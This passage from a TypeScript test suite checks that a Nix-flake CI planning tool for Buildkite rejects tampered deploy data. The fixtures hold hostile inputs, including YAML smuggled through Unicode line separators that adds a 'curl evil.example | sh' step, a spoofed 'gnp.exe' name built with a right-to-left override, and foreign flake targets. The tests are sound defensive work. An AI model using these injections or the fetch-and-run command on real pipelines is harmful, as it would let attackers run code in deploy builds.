      error: `error: ciActions."x\\u2029  - trigger: deploy\\u2029    build:\\u2029      env:\\u2029        STEP_DATA: '{\\"version\\":1,\\"action\\":\\"pwn\\",\\"steps\\":[]}'\\u2029  - command: curl evil.example | sh\\u2029    agents: {queue: deploy}\\u2029  - label: y": expected a name without control or invisible characters (found U+2029)`
    },
    {
      name: "a package attribute name",
      outputs: `${outputs}\n      packages.x86_64-linux.${nixString(injection("\u2028"))} = drv "evil" [ "1" ];`,
      ciActions: action("deployBot", `checks = [ ];`),
      error: `error: packages.x86_64-linux."x\\u2028  - trigger: deploy\\u2028    build:`
    },
    {
      name: "an app attribute name",
      outputs: `${outputs}\n      apps.x86_64-linux.${nixString("deploy\u202egnp.exe")} = app "evil";`,
      ciActions: action("deployBot", `checks = [ ];`),
      error: `error: apps.x86_64-linux."deploy\\u202Egnp.exe": expected an attribute name without control or invisible characters (found U+202E); rename it`
    }
  ])("$name with a line separator or invisible character: exit 2, naming it, nothing uploaded", (testCase) => {
    const head = repo.commit(testCase.name, { "flake.nix": fixtureFlake({ outputs: testCase.outputs ?? outputs, ciActions: testCase.ciActions }) })
    const run = runTool(["plan", ...system, "--base", base, "--head", head], { cwd: repo.dir, env: { BUILDKITE: "true", BUILDKITE_BRANCH: "master" } })
    assert.strictEqual(run.exitCode, 2, run.stderr)
    assert.include(run.stderr, testCase.error)
    assert.deepStrictEqual(run.agentCalls, [])
  })
})

describe("tool plan: a deploy build runs only what the flake at its commit declares", () => {
  const repo = newRepo()
  repo.commit("first", { "flake.nix": flakeAt() })
  const head = repo.commit("lib 2", { "flake.nix": flakeAt({ lib: "2", conditions: `[ { changed = [ p.app ]; } ]` }) })
  const declared = declaredStepData
  const deployWith = (stepData: unknown, env: Record<string, string> = {}) =>
    runTool(["plan", ...system], {
      cwd: repo.dir,
      env: { BUILDKITE: "true", BUILDKITE_COMMIT: head, DENBEIGH_DEPLOY: "true", STEP_DATA: typeof stepData === "string" ? stepData : JSON.stringify(stepData), ...env }
    })
  const withStep = (i: number, fields: Record<string, unknown>) => ({ ...declared, steps: declared.steps.map((step, j) => (i === j ? { ...step, ...fields } : step)) })

  it("is what the CI build's trigger step carries", () => {
    const ci = planJson(repo.dir, ["--head", head])
    assert.deepStrictEqual(ci.pipeline.steps.at(-1).build.env.STEP_DATA, JSON.stringify(declared))
    const run = deployWith(declared)
    assert.strictEqual(run.exitCode, 0, run.stderr)
    assert.strictEqual(asTheAgentReadsIt(run.agentCalls.at(-1)!.stdin).steps.length, 3)
  })

  it.each([
    {
      name: "a target in another flake",
      stepData: withStep(0, { target: "github:evil/evil#pwn" }),
      error: /error: STEP_DATA: expected an installable of the checked-out flake, such as \.#apps\.x86_64-linux\.deploy\n {2}at \["steps"\]\[0\]\["target"\]/
    },
    {
      name: "a target outside the checkout",
      stepData: withStep(2, { target: "./../other#apps.x86_64-linux.deploy" }),
      error: /error: STEP_DATA: expected an installable of the checked-out flake[^\n]*\n {2}at \["steps"\]\[2\]\["target"\]/
    },
    {
      name: "another target of this flake",
      stepData: withStep(2, { target: ".#apps.x86_64-linux.lint" }),
      error: new RegExp(`error: STEP_DATA\\.steps\\[2\\]\\.target: the flake at ${head.slice(0, 12)} declares "\\.#apps\\.x86_64-linux\\.deploy" for "deployBot", STEP_DATA has "\\.#apps\\.x86_64-linux\\.lint"`)
    },
    {
      name: "no block before production",
      stepData: { ...declared, steps: [declared.steps[0], declared.steps[2]] },
      error: /error: STEP_DATA\.steps\[1\]\.type: the flake at \w+ declares "block" for "deployBot", STEP_DATA has "run"/
    },
    {
      name: "an extra step",
      stepData: { ...declared, steps: [...declared.steps, { type: "run", name: "pwn", label: "pwn", target: ".#apps.x86_64-linux.lint", retries: 0 }] },
      error: /error: STEP_DATA\.steps\[3\]: the flake at \w+ declares nothing for "deployBot", STEP_DATA has \{"type":"run","name":"pwn"/
    },
    {
      name: "more retries",
      stepData: withStep(0, { retries: 10 }),
      error: /error: STEP_DATA\.steps\[0\]\.retries: the flake at \w+ declares 0 for "deployBot", STEP_DATA has 10/
    },
    {
      name: "an action the flake does not declare",
      stepData: { ...declared, action: "pwn" },
      error: /error: STEP_DATA\.action: the flake at \w+ declares no action "pwn" \(its actions: deployBot\)/
    },
    {
      name: "a name with a line separator",
      stepData: withStep(0, { name: injection("\u2028") }),
      error: /error: STEP_DATA: expected a name without control or invisible characters \(found U\+2028\)\n {2}at \["steps"\]\[0\]\["name"\]/
    },
    {
      name: "a NUL in a target",
      stepData: withStep(0, { target: ".#apps.x86_64-linux.deploy\u0000x" }),
      error: /error: STEP_DATA: the attribute name "deploy\\u0000x" cannot be written in an installable\n {2}at \["steps"\]\[0\]\["target"\]/
    },
    {
      name: "a NUL in a label",
      stepData: withStep(0, { label: "Deploy\u0000" }),
      error: /error: STEP_DATA: expected text without NUL characters or lone surrogates\n {2}at \["steps"\]\[0\]\["label"\]/
    },
    {
      name: "a lone surrogate in a block label",
      stepData: JSON.stringify(withStep(1, { label: "x" })).replace(`"label":"x"`, `"label":"\\ud800"`),
      error: /error: STEP_DATA: expected text without NUL characters or lone surrogates\n {2}at \["steps"\]\[1\]\["label"\]/
    }
  ])("refuses $name: exit 2, naming the place, nothing uploaded", ({ stepData, error }) => {
    const run = deployWith(stepData)
    assert.strictEqual(run.exitCode, 2, run.stderr)
    assert.match(run.stderr, error)
    assert.notInclude(run.stderr, "CommandLineError")
    assert.notMatch(run.stderr, /^\s+at .*\.(ts|js|mjs):\d+/m)
    assert.deepStrictEqual(run.agentCalls, [])
  })

  it("refuses a deploy build for a pull request", () => {
    const run = deployWith(declared, { BUILDKITE_PULL_REQUEST: "12" })
    assert.strictEqual(run.exitCode, 2, run.stderr)
    assert.include(run.stderr, "error: BUILDKITE_PULL_REQUEST: this deploy build is for pull request #12; a pull request never deploys")
    assert.deepStrictEqual(run.agentCalls, [])
  })
})

describe("tool plan: a pipeline over 500 steps keeps every gate ahead of what follows it", () => {
  it("uploads 499 runs with the step that uploads the rest, then the block, then production", () => {
    const repo = newRepo()
    const flake = (lib: string) => fixtureFlake({
      outputs: `packages.x86_64-linux.lib = drv "lib" [ "${lib}" ];\n      apps.x86_64-linux.deploy = app "deploy";`,
      ciActions: `ci.lib.mkActions { inherit self; actions = {
        deployBot = {
          conditions = [ { changed = [ p.lib ]; } ];
          deploySteps = builtins.genList (i: { name = "run-\${toString i}"; target = a.deploy; }) 499
            ++ [ { type = "block"; } { name = "production"; target = a.deploy; } ];
        };
      }; }`
    })
    repo.commit("first", { "flake.nix": flake("1") })
    const head = repo.commit("second", { "flake.nix": flake("2") })
    const [trigger] = planJson(repo.dir, ["--head", head]).pipeline.steps.filter((step) => step.trigger !== undefined)
    // The deploy build's environment, as the trigger step gives it once Buildkite has interpolated the upload.
    const env = { BUILDKITE: "true", BUILDKITE_COMMIT: head, ...(interpolatePipeline(trigger, {}).value as { build: { env: Record<string, string> } }).build.env }
    const planned = (JSON.parse(runTool(["plan", "--dry-run", "--format", "json", ...system], { cwd: repo.dir, env }).stdout) as PlanJson).pipeline.steps
    assert.strictEqual(planned.length, 501)

    const agentState = mkdtempSync(join(tmpdir(), "ci-agent-state-"))
    const run = runTool(["plan", ...system], { cwd: repo.dir, env, agentState })
    assert.strictEqual(run.exitCode, 0, run.stderr)
    const uploads = run.agentCalls.filter((call) => call.args.join(" ") === "pipeline upload").map((call) => call.stdin)
    const build = runBuild(planned, uploads, runUploaderStep(agentState))
    assert.deepStrictEqual(build.problems, [])
    assert.deepStrictEqual(build.uploads, [500, 2])
    assert.deepStrictEqual(build.steps, planned)
    assert.include(run.stderr, "uploaded 501 steps (in 2 parts: each part's last step uploads the next)")
  })
})
